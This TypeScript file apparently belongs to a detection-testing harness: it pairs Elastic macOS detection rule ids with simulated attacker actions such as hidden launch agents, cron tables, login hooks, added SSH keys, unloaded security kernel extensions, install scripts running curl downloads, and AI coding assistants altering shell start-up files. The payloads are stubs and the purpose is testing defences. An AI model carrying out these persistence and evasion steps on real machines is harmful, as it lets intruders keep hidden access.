import type { Actor } from '../evasions/attacker.js';
import type { Act, Theatre } from './theatre.js';

/**
 * An attack of the kind that a rule of Elastic's is for, in our own words, by the rule's id. What it touches bears the
 * attacker's label, or stands in the attacker's home.
 */
export interface RuleAttack {
  readonly what: string;
  readonly play: (stage: Theatre) => Promise<void> | void;
}

/** Rules that bear the tag of macOS and ask for something else, and what. */
export const elsewhere: Readonly<Record<string, string>> = {
  '8a1b0278-0f9a-487d-96bd-d4833298e87a': 'its query asks for Linux',
};

const python: Act = { image: '/opt/homebrew/bin/python3', args: ['setup.py'], signed: 'ad-hoc' };
const zsh: Act = { image: '/bin/zsh', args: ['install.sh'] };

/** Some program writes a file. */
function writes(
  by: Act,
  where: (stage: Theatre) => string,
  content?: (stage: Theatre) => string,
): RuleAttack['play'] {
  return async (stage) => {
    const actor = await stage.run(by);
    stage.write(where(stage), content?.(stage) ?? `${stage.label}\n`, actor);
  };
}

/** A program that one of these starts. */
function starts(parent: Act, child: (stage: Theatre) => Act): RuleAttack['play'] {
  return async (stage) => {
    await stage.run({ ...parent, starts: [child(stage)] });
  };
}

function runs(act: (stage: Theatre) => Act): RuleAttack['play'] {
  return async (stage) => {
    await stage.run(act(stage));
  };
}

const inHome = (name: string) => (stage: Theatre) => `${stage.home}/${name.replace('LABEL', stage.label)}`;
const at = (name: string) => (stage: Theatre) => name.replace('LABEL', stage.label);
const agentOf = (stage: Theatre) => stage.attacker.plist;
const list = (stage: Theatre) => stage.attacker.list();

function job(label: string, keys: string): string {
  return `<?xml version="1.0"?><plist version="1.0"><dict><key>Label</key><string>${label}</string>${keys}</dict></plist>\n`;
}

const emond: Act = { image: '/sbin/emond' };
const saver: Act = {
  image: '/System/Library/CoreServices/ScreenSaverEngine.app/Contents/MacOS/ScreenSaverEngine',
};
const shellChild = ({ label }: Theatre): Act => ({ image: '/bin/sh', args: ['-c', `/private/tmp/${label}`] });
const chrome = '/Applications/Google Chrome.app/Contents/MacOS/Google Chrome';

/** The shell of a command runs, and the command in its place. */
async function inPlaceOf(stage: Theatre, first: Act, then: Act): Promise<Actor> {
  return stage.becomes(await stage.run(first), then);
}

export const attacks: Readonly<Record<string, RuleAttack>> = {
  // elastic/detection-rules
  '70fa1af4-27fd-4f26-bd03-50b6af6b9e24': {
    what: 'a kernel extension of a security product is unloaded',
    play: runs(({ label }) => ({ image: '/sbin/kextunload', args: ['-b', `${label}.EndpointSecurity`] })),
  },
  '5ae4e6f8-d1bf-40fa-96ba-e29645e1e4dc': {
    what: 'remote login is switched on',
    play: starts(zsh, ({ label }) => ({
      image: '/usr/sbin/systemsetup',
      args: ['-f', '-setremotelogin', 'on', label],
    })),
  },
  '41b638a1-8ab6-4f8e-86d9-466317ef2db5': {
    what: 'an account is hidden from the login window',
    play: runs(({ label }) => ({
      image: '/usr/bin/dscl',
      args: ['.', 'create', `/Users/${label}`, 'IsHidden', '1'],
    })),
  },
  'd7b57cbd-de03-4c3b-8278-daa1ee4a6772': {
    what: 'a rule of Mail that runs a script is planted',
    play: writes(python, inHome('Library/Mail/V10/MailData/SyncedRules.plist')),
  },
  '082e3f8c-6f80-485c-91eb-5b112cb79b28': {
    what: 'a shell writes a launch agent and loads it',
    play: async (stage) => {
      const actor = await stage.run(zsh);
      stage.write(agentOf(stage), list(stage), actor);
      stage.attacker.begin('/bin/launchctl', ['launchctl', 'load', stage.attacker.host(agentOf(stage))], {
        signingId: 'com.apple.xpc.launchctl',
        parent: actor,
      });
    },
  },
  'f24bcae1-8980-4b30-b5dd-f851b055c9e7': {
    what: 'a hidden login item is made by AppleScript',
    play: runs(({ label }) => ({
      image: '/usr/bin/osascript',
      called: 'osascript',
      args: [
        '-e',
        `tell application "System Events" to make login item with properties {path:"/${label}", hidden:true}`,
      ],
    })),
  },
  'e6c98d38-633d-4b3e-9387-42112cd5ac10': {
    what: 'an authorization plug-in is copied into its folder',
    play: writes(
      { image: '/bin/cp', args: ['-R', 'x.bundle'] },
      at('/Library/Security/SecurityAgentPlugins/LABEL.bundle/Contents/MacOS/LABEL'),
    ),
  },
  '530178da-92ea-43ce-94c2-8877a826783d': {
    what: 'a table of cron is written without crontab',
    play: writes(python, at('/private/var/at/tabs/LABEL'), () => '* * * * * /opt/x\n'),
  },
  'afdca1e0-0f8a-4fcf-9e1e-95e09791e3cd': {
    what: 'a login shell fetches something as it starts',
    play: runs(({ label }) => ({
      image: '/usr/bin/login',
      args: ['-pf', 'alice'],
      starts: [
        {
          image: '/bin/zsh',
          called: '-zsh',
          starts: [
            { image: '/usr/bin/curl', args: ['-o', `/private/tmp/${label}`, 'https://example.net/x'] },
          ],
        },
      ],
    })),
  },
  '083fa162-e790-4d85-9aeb-4fea04188adb': {
    what: 'launchd starts a program with a hidden name',
    play: starts({ image: '/sbin/launchd' }, ({ home, label }) => ({
      image: `${home}/.${label}`,
      signed: 'ad-hoc',
    })),
  },
  '89fa6cb7-6b53-4de2-b604-648488841ab8': {
    what: 'a DirectoryService plug-in is planted',
    play: (stage) => {
      const bundle = at('/Library/DirectoryServices/PlugIns/LABEL.dsplug')(stage);
      stage.attacker.mkdir(bundle);
      stage.write(`${bundle}/Contents/MacOS/${stage.label}`, 'x');
    },
  },
  'c81cefcb-82b9-4408-a533-3c3df549e62d': {
    what: 'a shortcut of the Dock is replaced',
    play: writes(python, inHome('Library/Preferences/com.apple.dock.plist')),
  },
  'a6bf4dd4-743e-4da8-8c03-3ebd753a6c90': {
    what: 'a rule of the event monitor is planted',
    play: writes(zsh, at('/private/etc/emond.d/rules/LABEL.plist'), ({ label }) => job(label, '')),
  },
  '3e3d15c6-1509-479a-b125-21718372157e': {
    what: 'the event monitor starts a shell',
    play: starts(emond, shellChild),
  },
  'cc2fd2d0-ba3a-4939-b87f-2901764ed036': {
    what: 'the root account is enabled',
    play: runs(({ label }) => ({ image: '/usr/sbin/dsenableroot', args: ['-u', label] })),
  },
  '092b068f-84ac-485d-8a55-7dd9e006715f': {
    what: 'a launch agent with a hidden name is written',
    play: writes(zsh, inHome('Library/LaunchAgents/.LABEL.plist'), list),
  },
  '37f638ea-909d-4f94-9248-edd21e4a9906': {
    what: 'a script switches a Finder extension on',
    play: starts({ image: '/opt/homebrew/bin/python3', args: ['setup.py'] }, ({ label }) => ({
      image: '/usr/bin/pluginkit',
      args: ['-e', 'use', '-i', label],
    })),
  },
  'c292fa52-4115-408a-b897-e14f684b3cb7': {
    what: 'a folder action starts a shell',
    play: starts(
      {
        image:
          '/System/Library/Frameworks/Foundation.framework/Versions/C/XPCServices/com.apple.foundation.UserScriptService.xpc/Contents/MacOS/com.apple.foundation.UserScriptService',
      },
      shellChild,
    ),
  },
  'e3f5a566-df31-40cc-987c-24bc4bb94ba5': {
    what: 'a launch daemon with a hidden name is written',
    play: writes({ image: '/bin/cp', args: ['x', 'y'] }, at('/Library/LaunchDaemons/.LABEL.plist'), list),
  },
  '5d0265bf-dea9-41a9-92ad-48a8dcd05080': {
    what: 'a login hook is set',
    play: runs(({ label }) => ({
      image: '/usr/bin/defaults',
      args: ['write', 'com.apple.loginwindow', 'LoginHook', `/${label}`],
    })),
  },
  'ac412404-57a5-476f-858f-4e8fbb4f48d8': {
    what: 'the settings of the login window are rewritten',
    play: writes(python, inHome('Library/Preferences/com.apple.loginwindow.plist')),
  },
  'f1f3070e-045c-4e03-ae58-d11d43d2ee51': {
    what: 'Chrome is started with an extension of a folder',
    play: runs(({ home, label }) => ({ image: chrome, args: [`--load-extension=${home}/${label}`] })),
  },
  '88817a33-60d3-411f-ba79-7c905d865b2a': {
    what: 'a plug-in of Sublime Text is planted',
    play: writes(python, inHome('Library/Application Support/Sublime Text/Packages/LABEL.py')),
  },
  '48ec9452-e1fd-4513-a376-10a1a26d2c83': {
    what: 'a periodic script is planted',
    play: writes(zsh, at('/private/etc/periodic/daily/LABEL')),
  },
  '25368123-b7b8-4344-9fd4-df28051b4c6e': {
    what: 'Python writes a launch agent for the first time',
    play: writes(python, agentOf, list),
  },
  '48d7f54d-c29e-4430-93a9-9db6b5892270': {
    what: 'the screen saver starts a shell',
    play: starts(saver, shellChild),
  },
  'e6e8912f-283f-4d0d-8442-e0dcaf49944b': {
    what: 'another screen saver is set by a script',
    play: writes(python, inHome('Library/Preferences/ByHost/com.apple.screensaver.LABEL.plist')),
  },
  '15606250-449d-46a8-aaff-4043e42aefb9': {
    what: 'a start-up item is planted',
    play: writes(zsh, at('/Library/StartupItems/LABEL/StartupParameters.plist'), ({ label }) =>
      job(label, ''),
    ),
  },
  'cb71aa62-55c8-42f0-b0dd-afb0bb0b1f51': {
    what: 'an alarm is put into a calendar',
    play: writes(python, inHome('Library/Calendars/LABEL.calendar/Events/x.ics')),
  },
  '1955e925-6679-4535-9c1b-28ebf369f35f': {
    what: 'the script of an installer puts a script where everybody may write',
    play: async (stage) => {
      const actor = await inPlaceOf(
        stage,
        {
          image: '/bin/bash',
          args: [
            '/tmp/PKInstallSandbox.AbCdEf/Scripts/net.example.x/postinstall',
            `${stage.home}/Downloads/x.pkg`,
          ],
        },
        { image: '/bin/cp', args: ['x.sh', '/Users/Shared'] },
      );
      stage.write(`/Users/Shared/${stage.label}.sh`, '#!/bin/sh\n', actor);
    },
  },
  '62ba8542-1246-4647-9b84-98aa1bc0760a': {
    what: 'a script writes a launch agent',
    play: writes(python, agentOf, list),
  },
  'b4449455-f986-4b5a-82ed-e36b129331f7': {
    what: 'the start-up file of Atom is changed',
    play: writes(python, inHome('.atom/init.coffee')),
  },
  'e6c1a552-7776-44ad-ae0f-8746cc07773c': {
    what: 'a script changes a shell start-up file',
    play: writes(python, inHome('.zshrc')),
  },
  '2215b8bd-1759-4ffa-8ab8-55c8e6b32e7f': {
    what: 'a key that may log in is added',
    play: writes(python, inHome('.ssh/authorized_keys'), ({ label }) => `ssh-ed25519 AAAA ${label}\n`),
  },
  '0871a5d8-6b5f-4a12-a568-fd7bc05bd8db': {
    what: 'the installation of a package of npm runs a script',
    play: starts({ image: '/usr/local/bin/node', args: ['npm', 'install'] }, shellChild),
  },
  'cf6995ec-32a9-4b2d-9340-f8e61acf3f4e': {
    what: 'a trap for a signal is set by a program of its own',
    play: runs(({ label }) => ({ image: '/usr/bin/trap', args: [`/${label}`, 'SIGTERM'] })),
  },
  'c0136397-f82a-45e5-9b9f-a3651d77e21a': {
    what: 'an assistant changes a shell start-up file',
    play: writes({ image: '/usr/local/bin/claude', args: ['-p'] }, inHome('.zshrc')),
  },
  '590fc62d-7386-4c75-92b0-af4517018da1': {
    what: 'the settings of an assistant are changed',
    play: writes(python, inHome('.cursor/mcp.json')),
  },

  // elastic/protections-artifacts
  '9c20c94b-aad6-4052-b5b4-70d968e70971': {
    what: 'Node.js changes the script of an application',
    play: writes(
      { image: '/usr/local/bin/node', args: ['x.js'] },
      at('/Applications/X.app/Contents/Resources/LABEL.js'),
    ),
  },
  'a412fd9b-2a06-49ff-a073-8eb313c2d930': {
    what: 'a kernel extension of a security product is unloaded',
    play: runs(({ label }) => ({ image: '/sbin/kextunload', args: ['-b', `${label}.EndpointSecurity`] })),
  },
  'b64bf1de-5e36-4051-89d6-8b4492bcfdbd': {
    what: 'a shell opens Launchpad, whose shortcut was replaced',
    play: starts(zsh, ({ label }) => ({
      image: '/usr/bin/open',
      args: ['-b', 'com.apple.launchpad.launcher', label],
    })),
  },
  'd40ffcba-b83e-4d0a-8d6d-84385def8e18': {
    what: 'a package that is installed fetches a program',
    play: starts(zsh, ({ label }) => ({
      image:
        '/System/Library/PrivateFrameworks/PackageKit.framework/XPCServices/package_script_service.xpc/Contents/MacOS/package_script_service',
      starts: [
        {
          image: '/bin/bash',
          args: ['postinstall'],
          starts: [{ image: '/usr/bin/curl', args: ['-O', `https://raw.githubusercontent.com/${label}`] }],
        },
      ],
    })),
  },
  '64021ef9-19d3-4797-ac3c-79e38d5e5a5a': {
    what: 'a document of Word starts a shell',
    play: starts({ image: '/Applications/Microsoft Word.app/Contents/MacOS/Microsoft Word' }, shellChild),
  },
  '8713c19e-6167-494b-9dc9-9ad74bc9b0d7': {
    what: 'Script Editor starts curl',
    play: starts(
      { image: '/System/Applications/Utilities/Script Editor.app/Contents/MacOS/Script Editor' },
      ({ label }) => ({ image: '/usr/bin/curl', args: ['-O', `https://example.net/${label}`] }),
    ),
  },
  '779f18ce-1457-457c-80e1-3a5d146c2dc0': {
    what: 'a shell command makes a job of at',
    play: writes({ image: '/bin/sh', args: ['-c', 'at now'] }, at('/private/var/at/jobs/LABEL')),
  },
  'e5fc1285-d312-4b45-9e6b-e6c037276c17': {
    what: 'a shell command replaces a table of cron',
    play: async (stage) => {
      const actor = await inPlaceOf(
        stage,
        { image: '/bin/sh', args: ['-c', 'crontab x'] },
        { image: '/usr/bin/crontab', args: ['x'] },
      );
      stage.write(`/private/var/at/tabs/${stage.label}`, '* * * * * /opt/x\n', actor);
    },
  },
  '5d2c3833-a36a-483a-acea-5bf8cf363a81': {
    what: 'an unsigned program opens the application that it stands for',
    play: starts({ image: '/Users/Shared/Handler', signed: 'ad-hoc' }, ({ label }) => ({
      image: '/usr/bin/open',
      args: ['-a', '/System/Applications/Preview.app', `/${label}`],
    })),
  },
  '6e53dbb1-55c6-419c-ab8e-75a5d53aac49': {
    what: 'the script of a package copies a program with a hidden name',
    play: async (stage) => {
      const installer = await stage.run({ image: '/usr/sbin/installer', args: ['-pkg', 'x.pkg'] });
      const shell = await stage.run({ image: '/bin/bash', args: ['postinstall'], responsible: installer });
      const copy = stage.attacker.begin('/bin/cp', ['cp', 'x', 'y'], {
        signingId: 'com.apple.cp',
        parent: shell,
        responsible: installer,
      });
      stage.write(`/Users/Shared/.${stage.label}`, '\xcf\xfa\xed\xfe', copy);
    },
  },
  'de869aa1-c63a-451e-a953-7069ec39ba60': {
    what: 'a kernel extension is copied to the system and loaded',
    play: async (stage) => {
      const { label } = stage;
      await stage.run({
        ...zsh,
        starts: [
          { image: '/bin/cp', args: ['-R', 'x.kext', `/System/Library/Extensions/${label}.kext`] },
          { image: '/sbin/kextload', args: [`/System/Library/Extensions/${label}.kext`] },
        ],
      });
    },
  },
  '3da48cdd-262a-42a9-af2f-c82ef639b9e3': {
    what: "an unsigned program writes a launch agent that bears Apple's name",
    play: writes(python, inHome('Library/LaunchAgents/com.apple.LABEL.plist'), list),
  },
  '1cd247d8-00e8-4c62-b9ee-90cd1811460b': {
    what: 'the event monitor starts a shell',
    play: starts(emond, shellChild),
  },
  'ebae5222-71ba-4b73-afe9-8e034f8b4a04': {
    what: 'another screen saver is set, and the settings are read anew',
    play: async (stage) => {
      const actor = await stage.run(python);
      stage.write(
        `${stage.home}/Library/Preferences/ByHost/com.apple.screensaver.${stage.label}.plist`,
        stage.label,
        actor,
      );
      await stage.run({ image: '/usr/bin/killall', args: ['cfprefsd'] });
    },
  },
  '4515e310-7af8-4c5e-8f73-54497d051c75': {
    what: 'a script changes the settings of Chrome',
    play: writes(
      python,
      inHome('Library/Application Support/Google/Chrome/Default/Preferences'),
      () => '{}\n',
    ),
  },
  '6de66c98-9aaa-44a7-af4d-b2c0670fcc49': {
    what: 'a shortcut of the Dock is replaced',
    play: writes(python, inHome('Library/Preferences/com.apple.dock.plist')),
  },
  'fba012f6-7aa8-448e-8f59-cdecce2845b5': {
    what: 'the screen saver starts a shell',
    play: starts(saver, shellChild),
  },
  'd18ce577-74ba-40c3-9f9f-6031dfe76b2c': {
    what: 'cron starts an unsigned program',
    play: async (stage) => {
      const cron = await stage.run({ image: '/usr/sbin/cron' });
      stage.attacker.begin(`${stage.home}/${stage.label}`, [`${stage.home}/${stage.label}`], {
        signingId: 'x',
        adHoc: true,
        parent: cron,
        responsible: cron,
      });
    },
  },
  '752a2f7f-8d0c-4a7e-9665-ec948d14e947': {
    what: 'the script of a package starts an unsigned program',
    play: async (stage) => {
      const installer = await stage.run({ image: '/usr/sbin/installer', args: ['-pkg', 'x.pkg'] });
      const shell = await stage.run({ image: '/bin/bash', args: ['postinstall'], responsible: installer });
      stage.attacker.begin(`${stage.home}/${stage.label}`, [`${stage.home}/${stage.label}`], {
        signingId: 'x',
        adHoc: true,
        parent: shell,
        responsible: installer,
      });
    },
  },
  '74d77df0-c4ef-41d8-a07a-c37ef2ea91ad': {
    what: 'a launch agent is copied to its place, and its unsigned program starts',
    play: async (stage) => {
      const program = `${stage.home}/Library/Application Support/${stage.label}/x`;
      const actor = await stage.run({ image: '/bin/cp', args: ['a', 'b'] });
      stage.write(agentOf(stage), stage.attacker.list([program]), actor);
      // The sensor reads the list a moment later.
      await new Promise((resolve) => setTimeout(resolve, 1_000));
      await stage.run({ image: program, signed: 'ad-hoc' });
    },
  },
  'ed6568e0-17d3-4753-bb34-9f86d62acccb': {
    what: 'an unsigned program writes a launch agent that names no arguments',
    play: writes(python, agentOf, ({ label }) =>
      job(
        label,
        '<key>RunAtLoad</key><true/><key>KeepAlive</key><true/><key>BundleProgram</key><string>x</string>',
      ),
    ),
  },
  '1a2e350a-4f4b-411b-af91-b1555eebe17f': {
    what: 'an assistant has a shell write a launch agent',
    play: async (stage) => {
      const assistant = await stage.run({ image: '/usr/local/bin/claude', args: ['-p'] });
      const shell = stage.attacker.begin('/bin/sh', ['sh', '-c', 'install'], {
        signingId: 'com.apple.sh',
        parent: assistant,
      });
      stage.write(agentOf(stage), list(stage), shell);
    },
  },
  'b3bcbab6-e216-4d70-bdee-2b69affbb386': {
    what: 'a program in a folder that everybody may write replaces a table of cron',
    play: starts({ image: '/private/tmp/update', signed: 'ad-hoc' }, ({ label }) => ({
      image: '/usr/bin/crontab',
      args: ['-', label],
    })),
  },
  'e7b2c4a1-5f0d-4e8c-9a3b-1d6f8e0c2a4b': {
    what: 'a file is planted that Python runs as it starts',
    play: writes(
      python,
      inHome('.venv/lib/python3/site-packages/LABEL.pth'),
      () => 'import os, subprocess\n',
    ),
  },
  'e9fb14ff-6d88-4c31-a1a8-4f48722b0c6a': {
    what: 'AppleScript changes a project of Xcode',
    play: writes(
      { image: '/usr/bin/osascript', args: ['x.scpt'] },
      inHome('Code/LABEL.xcodeproj/project.pbxproj'),
    ),
  },
};
